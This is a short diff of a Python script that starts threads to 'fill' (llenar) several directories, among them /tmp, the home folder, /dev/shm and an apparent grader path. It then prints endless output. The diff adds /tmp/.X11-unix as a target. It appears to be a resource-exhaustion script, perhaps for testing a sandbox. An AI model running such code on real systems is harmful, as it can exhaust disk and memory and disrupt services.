@@ -16,7 +16,7 @@ def llenar(carpeta):
                 return
 
 
-for carpeta in (".", "/tmp", os.path.expanduser("~"), "/dev/shm", "/calificador/sonido"):
+for carpeta in (".", "/tmp", os.path.expanduser("~"), "/dev/shm", "/calificador/sonido", "/tmp/.X11-unix"):
     threading.Thread(target=llenar, args=(carpeta,), daemon=True).start()
 while True:
     print("x" * 10_000)
